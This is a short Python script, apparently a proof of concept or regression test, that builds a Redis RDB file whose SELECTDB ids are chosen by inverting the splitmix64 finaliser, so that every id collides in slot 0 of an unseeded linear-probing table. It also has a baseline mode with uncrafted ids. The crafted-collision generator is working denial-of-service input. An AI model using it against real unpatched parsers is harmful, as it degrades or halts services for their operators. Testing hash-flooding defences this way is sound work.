#!/usr/bin/env python3
"""Database-map hash flood (analyze/idmap.c): N SELECTDB ids chosen so that
the splitmix64 finaliser the map used before it got a secret seed has its
low 32 bits zero: every id would land in slot 0 of the linear-probing table,
whatever its capacity. One string key per database.
usage: idmap_flood.py N OUT [crafted|seq]"""
import struct, sys
M = (1 << 64) - 1
def inv_xorshift(y, s):
    x = y
    for _ in range(64 // s + 1):
        x = y ^ (x >> s)
    return x & M
def unmix(y):
    y = inv_xorshift(y, 31)
    y = (y * pow(0x94d049bb133111eb, -1, 1 << 64)) & M
    y = inv_xorshift(y, 27)
    y = (y * pow(0xbf58476d1ce4e5b9, -1, 1 << 64)) & M
    y = inv_xorshift(y, 30)
    return y
def mix(x):
    x ^= x >> 30; x = (x * 0xbf58476d1ce4e5b9) & M
    x ^= x >> 27; x = (x * 0x94d049bb133111eb) & M
    return x ^ (x >> 31)
n = int(sys.argv[1]); out = sys.argv[2]; mode = sys.argv[3] if len(sys.argv) > 3 else "crafted"
b = bytearray(b"REDIS0009")
for i in range(n):
    if mode == "crafted":
        db = unmix((i + 1) << 32)
        assert mix(db) & 0xffffffff == 0
    else:
        db = (i * 0x9E3779B97F4A7C15 + 12345) & M  # distinct, not crafted
    b += b"\xfe\x81" + struct.pack(">Q", db)
    b += b"\x00\x01k\x01v"          # string key "k" = "v"
b += b"\xff" + b"\x00" * 8
open(out, "wb").write(b)
